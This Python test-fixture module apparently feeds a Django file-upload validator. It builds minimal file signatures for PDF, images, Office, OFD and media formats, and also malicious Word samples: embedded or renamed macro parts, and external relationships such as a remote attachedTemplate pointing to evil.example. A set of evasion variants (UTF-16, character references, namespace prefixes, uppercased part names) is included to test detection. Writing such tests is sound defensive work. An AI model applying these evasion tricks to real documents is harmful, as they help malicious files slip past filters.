"""各种文件的样子，都是现做的。"""

import io
import zipfile

from django.core.files.uploadedfile import SimpleUploadedFile

PDF = b"%PDF-1.7\n1 0 obj\n<<>>\nendobj\n%%EOF"
PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 40
JPG = b"\xff\xd8\xff\xe0" + b"\0" * 40


def packed(*names: str, **written: str | bytes) -> bytes:
    box = io.BytesIO()
    with zipfile.ZipFile(box, "w") as package:
        for name in names:
            package.writestr(name, "<x/>")
        for name, text in written.items():
            package.writestr(name, text)
    return box.getvalue()


DOCX = packed("[Content_Types].xml", "word/document.xml")
XLSX = packed("[Content_Types].xml", "xl/workbook.xml")
OFD = packed("OFD.xml", "Doc_0/Document.xml")
MACRO = packed("[Content_Types].xml", "word/document.xml", "word/vbaProject.bin")


def upload(content: bytes, name: str) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
OLD_WORD = OLD + "WordDocument".encode("utf-16-le")
OLD_MACRO = OLD_WORD + "_VBA_PROJECT".encode("utf-16-le")
M4A = b"\0\0\0\x1cftypM4A \0\0\0\0" + b"\0" * 16
WEBM = b"\x1a\x45\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm"


def word(*names: str, **written: str | bytes) -> bytes:
    """一份 docx，另有这些部件。"""
    parts = {"[Content_Types].xml": "<Types/>", "word/document.xml": "<x/>", **written}
    return packed(*names, **parts)


def related(kind: str, mode: str = "External") -> bytes:
    """一份 docx，里面有一个到外面去的关系。"""
    relation = f'<Relationship Id="r1" Type="http://x/{kind}" Target="https://evil.example/t" TargetMode="{mode}"/>'
    return word(**{"word/_rels/settings.xml.rels": f"<Relationships>{relation}</Relationships>"})


RENAMED_MACRO = word(
    "word/code.bin",
    **{"[Content_Types].xml": "<Override ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"},
)
RELATIONS = "word/_rels/settings.xml.rels"
TEMPLATE = (
    '<{0}Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t" TargetMode="{1}"/>'
)
SCHEMA = "http://schemas.openxmlformats.org/package/2006/relationships"
# 同一个外部模板、同一个宏，换一种写法：UTF-16，字符引用，加前缀，部件名大写
DISGUISED = {
    "UTF-16": word(**{RELATIONS: f"<Relationships>{TEMPLATE.format('', 'External')}</Relationships>".encode("utf-16")}),
    "字符引用": word(**{RELATIONS: f"<Relationships>{TEMPLATE.format('', '&#69;xternal')}</Relationships>"}),
    "前缀": word(
        **{RELATIONS: f'<p:Relationships xmlns:p="{SCHEMA}">{TEMPLATE.format("p:", "External")}</p:Relationships>'}
    ),
    "大写": word(**{RELATIONS.upper(): f"<Relationships>{TEMPLATE.format('', 'External')}</Relationships>"}),
}
DISGUISED_MACRO = word(
    "word/code.bin",
    **{"[Content_Types].xml": "<Override ContentType='application/vnd.ms-word.document.macro&#69;nabled.main+xml'/>"},
)
NAMED = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def letter(body: str, head: str = "", encoding: str = "utf-8") -> bytes:
    """一份 docx，正文是这些段。"""
    whole = f"{head}<w:document {NAMED}><w:body>{body}</w:body></w:document>"
    return word(**{"word/document.xml": whole.encode(encoding)})
